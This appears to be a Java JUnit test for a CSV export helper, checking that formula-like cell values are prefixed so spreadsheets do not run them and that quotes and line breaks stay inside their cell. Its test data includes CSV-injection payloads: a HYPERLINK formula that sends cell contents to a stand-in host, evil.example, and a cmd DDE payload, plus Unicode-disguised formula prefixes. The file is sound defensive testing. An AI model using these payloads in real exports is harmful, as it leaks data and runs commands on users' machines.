package org.undersigned.app.publicfiles;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** What people type is never run by the spreadsheet that opens our tables, and never leaves its cell. */
class HostileCsvTest {
    private static List<CSVRecord> read(String csv) throws IOException {
        return CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
    }

    @Test
    void nothingIsAFormula() throws IOException {
        for (String hostile : List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ferry Friends\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1+1)",
                "\t=1+1",
                "\r\n=1+1",
                "   =1+1",
                "\u00a0=1+1",
                "\u2003@SUM(1)",
                "\ufeff=1+1",
                "\u200b=1+1",
                "\u202e=1+1",
                "\u0000=1+1",
                "\uff1d1+1",
                "\uff0b1+1",
                "\uff0d1+1",
                "\uff201+1",
                "|calc",
                "%0A=1")) {
            String shown = read(CsvText.row(List.of("Ferry Friends", hostile, "after")))
                    .getFirst()
                    .get(1);
            assertThat(shown)
                    .as(hostile)
                    .startsWith("'")
                    .endsWith(hostile.strip().substring(1));
        }
    }

    @Test
    void whatIsNoFormulaStaysAsItIs() throws IOException {
        for (String name : List.of("Amis du bac – Genève", "A = B", "Ընկերներ", "أصدقاء", "3M", "“Quoted”", "")) {
            assertThat(read(CsvText.row(List.of(name))).getFirst().get(0)).isEqualTo(name);
        }
    }

    @Test
    void nothingLeavesItsCell() throws IOException {
        String hostile = "a\",\"b\"\r\n\"=1+1\",\"c;d";
        List<CSVRecord> rows = read(CsvText.row(List.of(hostile, "next")) + CsvText.row(List.of("second", "")));
        assertThat(rows).hasSize(2);
        assertThat(rows.getFirst().toList()).containsExactly(hostile, "next");
    }
}
